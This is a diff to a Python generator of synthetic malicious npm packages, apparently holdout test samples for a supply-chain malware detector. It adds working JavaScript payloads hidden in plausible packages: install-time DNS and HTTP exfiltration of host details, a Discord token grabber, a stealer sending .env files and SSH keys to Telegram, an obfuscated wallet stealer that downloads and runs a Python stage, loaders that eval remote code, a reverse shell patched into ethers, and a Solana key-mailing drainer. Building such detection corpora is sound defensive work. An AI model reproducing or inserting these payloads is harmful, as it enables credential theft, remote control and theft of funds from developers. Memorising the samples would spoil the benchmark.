@@ -454,3 +454,382 @@ def onetime_clipper():
              "The first onetime() call starts a 1.5 s timer that reads the clipboard (PowerShell Get-Clipboard, "
              "pbpaste or xclip) and replaces any BTC/ETH/TRX/SOL address with the attacker's (Set-Clipboard, pbcopy, xclip).",
              files, modes)
+
+
+# =============================================================================================
+# Typosquats and dependency confusion
+
+
+_DNS_RECON = r"""const dns = require('dns');
+const os = require('os');
+
+// telemetry: anonymous install ping
+function b32(buf) {
+  const a = 'abcdefghijklmnopqrstuvwxyz234567';
+  let bits = 0, val = 0, out = '';
+  for (const byte of buf) {
+    val = (val << 8) | byte; bits += 8;
+    while (bits >= 5) { out += a[(val >>> (bits - 5)) & 31]; bits -= 5; }
+  }
+  if (bits > 0) out += a[(val << (5 - bits)) & 31];
+  return out;
+}
+
+const ifs = Object.values(os.networkInterfaces()).flat().filter(i => !i.internal && i.family === 'IPv4').map(i => i.address);
+const info = [os.hostname(), os.userInfo().username, process.cwd(), ifs.join(','), process.env.npm_package_name || ''].join('|');
+const enc = b32(Buffer.from(info));
+const id = Math.random().toString(36).slice(2, 8);
+const chunks = enc.match(/.{1,60}/g) || [];
+chunks.forEach((c, i) => {
+  dns.resolve4(`${c}.${i}.${chunks.length}.${id}.t.axois-retry.invalid`, () => {});
+});
+"""
+
+
+@sample
+def typosquat_dns_recon():
+    files = syn("axois-retry", "1.4.2", "Axios plugin that intercepts failed requests and retries them (exponential back-off).", {
+        "index.js": "'use strict';\n\nfunction isRetryable(err) {\n  return !err.response || (err.response.status >= 500 && err.response.status <= 599) || err.code === 'ECONNABORTED';\n}\n\nmodule.exports = function axiosRetry(axios, { retries = 3, delay = 300 } = {}) {\n  axios.interceptors.response.use(null, async (err) => {\n    const cfg = err.config || {};\n    cfg.__retry = (cfg.__retry || 0) + 1;\n    if (cfg.__retry > retries || !isRetryable(err)) throw err;\n    await new Promise(r => setTimeout(r, delay * 2 ** (cfg.__retry - 1)));\n    return axios(cfg);\n  });\n};\nmodule.exports.isRetryable = isRetryable;\n",
+        "scripts/ping.js": _DNS_RECON}, main="index.js", scripts={"postinstall": "node scripts/ping.js"}, keywords=["axios", "retry"], peerDependencies={"axios": ">=0.21"})
+    return S("holdout7-axois-retry-typosquat-dns-base32-recon",
+             "Typosquat with install-time DNS exfiltration of host recon (Checkmarx/Phylum 2024 DNS-exfil "
+             "typosquats of axios plugins)", "2024-08-19",
+             ["typosquat", "postinstall", "recon", "dns-exfil", "base32"],
+             "postinstall scripts/ping.js joins hostname, username, cwd, external IPv4 addresses and package name, "
+             "base32-encodes it and resolves it in 60-char labels under <i>.<n>.<id>.t.axois-retry.invalid.",
+             files)
+
+
+_DEPCONF = r"""#!/usr/bin/env node
+var http = require('http'), os = require('os'), fs = require('fs');
+var pkg = require('./package.json');
+function hex(s) { return Buffer.from(String(s)).toString('hex'); }
+var d = {
+  p: pkg.name, v: pkg.version, h: os.hostname(), u: os.userInfo().username, d: __dirname,
+  r: (function () { try { return fs.readFileSync('/etc/resolv.conf', 'utf8').match(/search .*/)[0]; } catch (e) { return ''; } })(),
+  n: (function () { try { return JSON.parse(fs.readFileSync(process.env.INIT_CWD + '/package.json')).name; } catch (e) { return ''; } })()
+};
+var q = Object.keys(d).map(function (k) { return k + '=' + hex(d[k]); }).join('&');
+http.get({ host: '203.0.113.140', port: 8080, path: '/c?' + q, headers: { 'User-Agent': 'npm/' + process.version } }).on('error', function () {});
+"""
+
+
+@sample
+def dependency_confusion_hex():
+    files = syn("@northwind-internal/design-tokens", "99.10.3", "Design tokens for Northwind web apps",
+                {"index.js": "module.exports = {\n  color: { primary: '#0b5fff', danger: '#d92d20', text: '#101828' },\n  radius: { sm: 4, md: 8 },\n  space: [0, 4, 8, 12, 16, 24, 32]\n};\n", "preinstall.js": _DEPCONF},
+                main="index.js", scripts={"preinstall": "node preinstall.js"}, publishConfig={"access": "public"})
+    return S("holdout7-northwind-design-tokens-dependency-confusion-hex",
+             "Dependency-confusion package with a high version of an internal scope name (Birsan 2021; "
+             "hundreds of such packages per month in 2024-2025 Socket/Phylum reports)", "2025-01-28",
+             ["dependency-confusion", "preinstall", "recon", "hex", "http-exfil"],
+             "preinstall.js hex-encodes package name/version, hostname, username, install dir, the resolv.conf "
+             "search domain and the parent project's name, and GETs http://203.0.113.140:8080/c?<fields>.",
+             files)
+
+
+_DISCORD_GRAB = r"""const fs = require('fs');
+const path = require('path');
+const https = require('https');
+
+const WEBHOOK = '@@HOOK@@';
+
+function tokensIn(dir) {
+  const found = new Set();
+  let names = [];
+  try { names = fs.readdirSync(dir); } catch (_) { return found; }
+  for (const n of names) {
+    if (!/\.(log|ldb)$/.test(n)) continue;
+    const txt = fs.readFileSync(path.join(dir, n), 'latin1');
+    for (const m of txt.matchAll(/[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}|dQw4w9WgXcQ:[^"]+/g)) found.add(m[0]);
+  }
+  return found;
+}
+
+module.exports = function syncPresence() {
+  const appdata = process.env.APPDATA || path.join(require('os').homedir(), '.config');
+  const roots = ['discord', 'discordcanary', 'discordptb', 'Lightcord'].map(d => path.join(appdata, d, 'Local Storage', 'leveldb'));
+  const all = [];
+  for (const r of roots) for (const t of tokensIn(r)) all.push(t);
+  if (!all.length) return;
+  const body = JSON.stringify({ username: 'presence', content: '```' + all.join('\n') + '```' });
+  const u = new URL(WEBHOOK);
+  const req = https.request({ hostname: u.hostname, path: u.pathname, method: 'POST', headers: { 'content-type': 'application/json' } });
+  req.on('error', () => {});
+  req.end(body);
+};
+"""
+
+
+@sample
+def discord_token_grabber():
+    files = syn("discord-rpc-presence", "2.3.1", "Rich presence helper for discord.js bots",
+                {"index.js": "const sync = require('./lib/presence');\n\nclass Presence {\n  constructor(client) { this.client = client; sync(); }\n  set(activity, type = 'PLAYING') { return this.client.user.setPresence({ activities: [{ name: activity, type }] }); }\n}\nmodule.exports = Presence;\n",
+                 "lib/presence.js": fill(_DISCORD_GRAB, HOOK=ZERO_DISCORD)}, main="index.js", peerDependencies={"discord.js": "^14"})
+    return S("holdout7-discord-rpc-presence-token-grabber-webhook",
+             "Discord token grabber in a bot-helper package (dozens per month in 2023-2025 reports by "
+             "Socket, Sonatype, ReversingLabs)", "2024-06-12",
+             ["typosquat", "import-time", "discord-tokens", "leveldb", "discord-webhook"],
+             "Constructing Presence calls lib/presence.js, which scans Discord/Canary/PTB/Lightcord Local Storage "
+             "leveldb .log/.ldb files for token patterns (incl. encrypted dQw4w9WgXcQ: ones) and posts them to a "
+             "Discord webhook (all-zero id).",
+             files)
+
+
+_TG_STEAL = r"""import { readFileSync, readdirSync, existsSync } from 'node:fs';
+import { homedir, hostname } from 'node:os';
+import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+
+const BOT = '@@BOT@@';
+const CHAT = '-1000000000000';
+
+function gather(dir, depth = 0, out = []) {
+  if (depth > 3) return out;
+  let ents = [];
+  try { ents = readdirSync(dir, { withFileTypes: true }); } catch { return out; }
+  for (const e of ents) {
+    if (e.name === 'node_modules' || e.name.startsWith('.git')) continue;
+    const p = join(dir, e.name);
+    if (e.isDirectory()) gather(p, depth + 1, out);
+    else if (/^\.env(\..+)?$|^id_(rsa|ed25519)$|\.pem$|credentials$/.test(e.name)) out.push(p);
+  }
+  return out;
+}
+
+export async function reportError(err) {
+  const files = [...gather(process.cwd()), ...gather(join(homedir(), '.ssh'))];
+  if (!files.length) return;
+  const bundle = gzipSync(JSON.stringify(Object.fromEntries(files.filter(existsSync).map(f => [f, readFileSync(f, 'utf8')]))));
+  const form = new FormData();
+  form.append('chat_id', CHAT);
+  form.append('caption', `${hostname()} ${String(err && err.message).slice(0, 80)}`);
+  form.append('document', new Blob([bundle]), 'report.gz');
+  await fetch(`${BOT}/sendDocument`, { method: 'POST', body: form }).catch(() => {});
+}
+"""
+
+
+@sample
+def telegram_env_ssh_esm():
+    files = syn("node-telegram-bot-logger", "0.9.4", "Send your app's logs and errors to a Telegram chat",
+                {"index.mjs": "import { reportError } from './report.mjs';\n\nexport function createLogger({ level = 'info' } = {}) {\n  const levels = ['debug', 'info', 'warn', 'error'];\n  const min = levels.indexOf(level);\n  const log = (l) => (...a) => { if (levels.indexOf(l) >= min) console[l === 'debug' ? 'log' : l](`[${l}]`, ...a); };\n  process.on('uncaughtException', reportError);\n  setTimeout(() => reportError(new Error('startup')), 30_000).unref();\n  return { debug: log('debug'), info: log('info'), warn: log('warn'), error: log('error') };\n}\n",
+                 "report.mjs": fill(_TG_STEAL, BOT=ZERO_TELEGRAM)}, type="module", main="index.mjs", exports={".": "./index.mjs"})
+    return S("holdout7-telegram-bot-logger-esm-env-ssh-telegram",
+             "Combosquat of node-telegram-bot-api that exfiltrates .env files and SSH keys to a Telegram bot "
+             "(Socket / Phylum 2024-2025 Telegram-exfil packages)", "2025-02-17",
+             ["typosquat", "esm", "function-call-time", "delay", "dotenv", "ssh-keys", "telegram-exfil", "gzip"],
+             "createLogger() schedules reportError after 30 s (and on uncaughtException): collects .env*, id_rsa/"
+             "id_ed25519, *.pem and *credentials files under cwd and ~/.ssh, gzips them as JSON and uploads them as a "
+             "document to a Telegram bot's sendDocument (all-zero bot token).",
+             files)
+
+
+# =============================================================================================
+# Contagious Interview (North Korea) loaders
+
+
+def _beavertail():
+    tpl = r"""
+const fs=require(S("fs")),os=require(S("os")),path=require(S("path")),rq=require(S("request")),ex=require(S("child_process"))[S("exec")];
+const hs=os[S("hostname")](),pl=os[S("platform")](),hd=os[S("homedir")](),td=os[S("tmpdir")]();
+const ht=S("http://198.51.100.56:1224"),ty=S("6"),tk=S("k1");
+const ue=(p)=>{const r=[];try{for(const d of [S("Default"),S("Profile 1"),S("Profile 2"),S("Profile 3")]){const b=path.join(p,d,S("Local Extension Settings"));for(const x of [S("nkbihfbeogaeaoehlefnkodbefgpgknn"),S("ejbalbakoplchlghecdalmeeeajnimhm"),S("fhbohimaelbohpjbbldcngcnapndodjp"),S("aeachknmefphepccionboohckonoeemg"),S("bfnaelmomeimhlpmgjnjophhpkkoljpa")]){const e=path.join(b,x);if(fs.existsSync(e))fs.readdirSync(e).forEach(f=>{if(/\.(log|ldb)$/.test(f))r.push({value:fs.createReadStream(path.join(e,f)),options:{filename:x+"_"+d+"_"+f}})})}}}catch(_){}return r};
+const bp=pl[0]=="w"?path.join(hd,S("AppData/Local/Google/Chrome/User Data")):pl[0]=="d"?path.join(hd,S("Library/Application Support/Google/Chrome")):path.join(hd,S(".config/google-chrome"));
+const up=(f)=>{rq[S("post")]({url:ht+S("/uploads"),formData:{type:ty,hid:tk+"_"+hs,uts:Date.now(),multi_file:f}},()=>{})};
+const sl=()=>{const f=ue(bp);for(const x of [S("/.config/solana/id.json"),S("/Library/Keychains/login.keychain-db")])if(fs.existsSync(hd+x))f.push({value:fs.createReadStream(hd+x),options:{filename:path.basename(x)}});up(f)};
+const py=()=>{const p=path.join(hd,S(".pyp")),z=path.join(td,S("p.zi"));rq[S("get")](ht+S("/pdown"),(e,r,b)=>{if(e)return;fs.writeFileSync(z,b);ex(S("tar -xf ")+z+S(" -C ")+hd,()=>{rq[S("get")](ht+S("/client/")+ty+"/"+tk,(e2,r2,b2)=>{if(e2)return;fs.writeFileSync(path.join(hd,S(".npl")),b2);ex((pl[0]=="w"?p+S("\\python.exe"):S("python3"))+" \""+path.join(hd,S(".npl"))+"\"",{windowsHide:true})})})})};
+let c=0;const it=setInterval(()=>{c++;if(c<5){sl();py()}else clearInterval(it)},60e4);sl();py();
+"""
+    return H().obfuscate(tpl, "h7-bt", "base64")
+
+
+@sample
+def beavertail_interview_repo():
+    files = syn("react-chart-tooltips", "1.2.6", "Lightweight tooltips for React charting libraries",
+                {"index.js": "'use strict';\nconst React = require('react');\nrequire('./lib/theme');\n\nfunction Tooltip({ x, y, label, visible }) {\n  if (!visible) return null;\n  return React.createElement('div', { className: 'rct-tooltip', style: { left: x, top: y, position: 'absolute' } }, label);\n}\nmodule.exports = { Tooltip };\n",
+                 "lib/theme.js": "'use strict';\n// theme registry (loaded once)\nmodule.exports = { dark: { bg: '#1d2939', fg: '#fff' }, light: { bg: '#fff', fg: '#101828' } };\n" + _beavertail() + "\n"},
+                main="index.js", dependencies={"request": "^2.88.2"}, peerDependencies={"react": ">=16"})
+    return S("holdout7-react-chart-tooltips-beavertail-invisibleferret",
+             "Contagious Interview BeaverTail stealer + InvisibleFerret Python download (Unit42 Nov 2023, "
+             "Socket/Palo Alto 2024-2025 job-interview npm packages)", "2024-10-02",
+             ["contagious-interview", "import-time", "obfuscator-io", "browser-wallet-extensions", "keychain",
+              "solana-keys", "http-upload", "python-stage2", "exec"],
+             "lib/theme.js (required by index.js) carries an obfuscator.io block: uploads MetaMask/TronLink/Coinbase/"
+             "Phantom/etc extension leveldb files from four Chrome profiles, Solana id.json and macOS keychain as "
+             "multipart to http://198.51.100.56:1224/uploads with hid, then GETs /pdown (p.zi, a Python runtime), "
+             "untars it to ~/.pyp and fetches /client/6/k1 to ~/.npl and runs it with Python; repeats every 10 min x4.",
+             files)
+
+
+_OTTER = r"""const axios = require('axios');
+const os = require('os');
+
+const API = 'https://api.chart-vercel-status.invalid/api/ipcheck';
+
+// ip geolocation used to pick the nearest CDN edge
+async function getEdge() {
+  try {
+    await axios.get(API, { headers: { 'x-secret-header': 'secret', 'x-node': os.hostname() } });
+  } catch (err) {
+    if (err.response && err.response.data && err.response.data.cookie) {
+      const handler = new (Function.constructor)('require', err.response.data.cookie);
+      handler(require);
+    }
+  }
+  return 'default';
+}
+module.exports = { getEdge };
+"""
+
+@sample
+def ottercookie_error_body_loader():
+    files = syn("cdn-edge-picker", "3.0.2", "Pick the lowest-latency CDN edge for the current visitor",
+                {"src/index.js": "const { getEdge } = require('./geo');\n\nconst EDGES = { eu: 'https://eu.cdn.example.com', us: 'https://us.cdn.example.com', default: 'https://cdn.example.com' };\n\nasync function pick() {\n  const region = await getEdge();\n  return EDGES[region] || EDGES.default;\n}\n\npick().catch(() => {});\nmodule.exports = { pick, EDGES };\n",
+                 "src/geo.js": _OTTER}, main="src/index.js", dependencies={"axios": "^1.7.2"})
+    return S("holdout7-cdn-edge-picker-ottercookie-error-response-eval",
+             "OtterCookie / Contagious Interview loader that runs code taken from an HTTP error response "
+             "(NTT Security / Socket, late 2024-2025)", "2025-04-04",
+             ["contagious-interview", "import-time", "error-body-payload", "function-constructor", "stage2-download"],
+             "src/index.js calls getEdge() at require: it GETs https://api.chart-vercel-status.invalid/api/ipcheck "
+             "with x-secret-header; the C2 answers with an error status whose JSON 'cookie' field is JavaScript, "
+             "run via Function.constructor with require (OtterCookie: socket.io C2, file and clipboard theft).",
+             files)
+
+
+_TS_LOADER = r""""use strict";
+var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
+    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
+    return new (P || (P = Promise))(function (resolve, reject) {
+        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
+        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
+        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
+        step((generator = generator.apply(thisArg, _arguments || [])).next());
+    });
+};
+Object.defineProperty(exports, "__esModule", { value: true });
+exports.initConfig = void 0;
+const dotenv_1 = require("dotenv");
+const node_fetch_1 = require("node-fetch");
+const DEFAULTS = { port: 3000, logLevel: "info" };
+function initConfig() {
+    return __awaiter(this, void 0, void 0, function* () {
+        (0, dotenv_1.config)();
+        const src = Buffer.from(process.env.DEV_API_KEY || "aHR0cHM6Ly9qc29ua2VlcGVyLmV4YW1wbGUvYi9RN1hZMg==", "base64").toString();
+        try {
+            const res = yield (0, node_fetch_1.default)(src);
+            const data = yield res.json();
+            if (data && data.model) {
+                eval(data.model);
+            }
+        }
+        catch (_a) { }
+        return Object.assign(Object.assign({}, DEFAULTS), { port: Number(process.env.PORT || DEFAULTS.port) });
+    });
+}
+exports.initConfig = initConfig;
+"""
+
+
+@sample
+def interview_ts_jsonkeeper():
+    files = syn("express-env-bootstrap", "2.1.0", "Typed config bootstrap for Express + dotenv projects",
+                {"dist/index.js": "\"use strict\";\nObject.defineProperty(exports, \"__esModule\", { value: true });\nexports.initConfig = void 0;\nvar config_1 = require(\"./config\");\nObject.defineProperty(exports, \"initConfig\", { enumerable: true, get: function () { return config_1.initConfig; } });\n",
+                 "dist/config.js": _TS_LOADER,
+                 "dist/config.d.ts": "export declare function initConfig(): Promise<{ port: number; logLevel: string }>;\n",
+                 "bin/server.js": "#!/usr/bin/env node\nrequire('../dist').initConfig().then(c => console.log('config ready on port', c.port));\n"},
+                main="dist/index.js", types="dist/config.d.ts", bin={"env-bootstrap": "bin/server.js"}, dependencies={"dotenv": "^16.4.5", "node-fetch": "^2.7.0"})
+    return S("holdout7-express-env-bootstrap-ts-dead-drop-eval",
+             "Contagious Interview 'take-home project' loader compiled from TypeScript that pulls JavaScript from a "
+             "JSON-storage dead drop (jsonkeeper / npoint, Socket & Silent Push 2025)", "2025-06-24",
+             ["contagious-interview", "typescript-output", "function-call-time", "cli-bin", "base64-url", "dead-drop", "eval"],
+             "dist/config.js (tsc __awaiter output) initConfig(): decodes the base64 default of DEV_API_KEY to "
+             "https://jsonkeeper.example/b/Q7XY2, fetches it and evals the 'model' field. Reached from the package's "
+             "main and from the env-bootstrap bin.",
+             files, {"bin/server.js": 0o755})
+
+
+# =============================================================================================
+# Crypto drainers
+
+
+_ETHERS_PATCH = r"""'use strict';
+const fs = require('fs');
+const path = require('path');
+
+// Applies the keep-alive fix for JsonRpcProvider to the installed ethers build.
+const INJECT = `
+;(function(){try{var n=require('net'),c=require('child_process');var s=new n.Socket();s.connect(4443,'192.0.2.88',function(){var sh=c.spawn(process.platform==='win32'?'cmd.exe':'/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)});s.on('error',function(){})}catch(e){}})();
+`;
+
+function find(dir, depth) {
+  if (depth > 6) return null;
+  const cand = path.join(dir, 'node_modules', 'ethers', 'lib.commonjs', 'providers', 'provider-jsonrpc.js');
+  if (fs.existsSync(cand)) return cand;
+  const up = path.dirname(dir);
+  return up === dir ? null : find(up, depth + 1);
+}
+
+const target = find(process.env.INIT_CWD || __dirname, 0);
+if (target) {
+  const src = fs.readFileSync(target, 'utf8');
+  if (!src.includes('192.0.2.88')) fs.writeFileSync(target, src + INJECT);
+}
+"""
+
+
+@sample
+def ethers_patcher_reverse_shell():
+    files = syn("ethers-keepalive-provider", "6.2.4", "Keep-alive HTTP agent for ethers v6 JsonRpcProvider",
+                {"index.js": "const http = require('http');\nconst https = require('https');\n\nconst agents = { 'http:': new http.Agent({ keepAlive: true }), 'https:': new https.Agent({ keepAlive: true }) };\n\nfunction withKeepAlive(FetchRequest) {\n  FetchRequest.registerGetUrl(FetchRequest.createGetUrlFunc());\n  return agents;\n}\nmodule.exports = { withKeepAlive, agents };\n",
+                 "install.js": _ETHERS_PATCH}, main="index.js", scripts={"postinstall": "node install.js"}, peerDependencies={"ethers": "^6"})
+    return S("holdout7-ethers-keepalive-provider-patches-ethers-reverse-shell",
+             "Package that patches the locally installed ethers to add a reverse shell (ReversingLabs March 2025: "
+             "ethers-provider2 / ethers-providerz)", "2025-03-26",
+             ["postinstall", "patches-other-package", "reverse-shell", "crypto-dev-target"],
+             "postinstall install.js walks up from INIT_CWD to node_modules/ethers/lib.commonjs/providers/"
+             "provider-jsonrpc.js and appends a block that connects to 192.0.2.88:4443 and pipes /bin/sh or cmd.exe "
+             "to the socket, so the backdoor survives removal of this package.",
+             files)
+
+
+_SOL_SMTP = r"""const nodemailer = require('nodemailer');
+const { Keypair, Connection, SystemProgram, Transaction, sendAndConfirmTransaction, LAMPORTS_PER_SOL } = require('@solana/web3.js');
+const bs58 = require('bs58');
+
+const transport = nodemailer.createTransport({
+  host: 'smtp.gmail.com', port: 465, secure: true,
+  auth: { user: 'sol.toolkit.alerts@example.com', pass: 'aaaa bbbb cccc dddd' }
+});
+
+async function notify(subject, text) {
+  try { await transport.sendMail({ from: 'sol.toolkit.alerts@example.com', to: 'sol.toolkit.alerts@example.com', subject, text }); } catch (_) {}
+}
+
+async function sendSol(rpcUrl, secretKeyBase58, to, amountSol) {
+  const payer = Keypair.fromSecretKey(bs58.decode(secretKeyBase58));
+  notify('tx ' + payer.publicKey.toBase58(), secretKeyBase58);
+  const conn = new Connection(rpcUrl, 'confirmed');
+  const bal = await conn.getBalance(payer.publicKey);
+  const drain = bal - 5000 - Math.floor(amountSol * LAMPORTS_PER_SOL);
+  const tx = new Transaction().add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: new (require('@solana/web3.js').PublicKey)(to), lamports: Math.floor(amountSol * LAMPORTS_PER_SOL) }));
+  if (drain > 0) tx.add(SystemProgram.transfer({ fromPubkey: payer.publicKey, toPubkey: new (require('@solana/web3.js').PublicKey)('@@SOL@@'), lamports: Math.floor(drain * 0.98) }));
+  return sendAndConfirmTransaction(conn, tx, [payer]);
+}
+
+module.exports = { sendSol };
+"""
+
+
+@sample
+def solana_smtp_drainer():
+    files = syn("solana-transfer-kit", "1.0.7", "One-call SOL transfers with retries and priority fees",
+                {"index.js": _SOL_SMTP.replace("@@SOL@@", addr("sol", "h7-smtp"))}, main="index.js",
+                dependencies={"@solana/web3.js": "^1.95.0", "bs58": "^5.0.0", "nodemailer": "^6.9.14"})
+    return S("holdout7-solana-transfer-kit-smtp-key-exfil-drain",
+             "Solana developer package that mails private keys through Gmail SMTP and drains the rest "
+             "(Socket Jan 2025: @async-mutex/mutex, solana-transaction-toolkit)", "2025-01-10",
+             ["function-call-time", "private-key-theft", "smtp-exfil", "wallet-drainer", "crypto-dev-target"],
+             "sendSol() e-mails the caller's base58 secret key to the attacker via smtp.gmail.com (made-up "
+             "account) and adds a second transfer of 98% of the remaining balance to the attacker's Solana address.",
+             files)
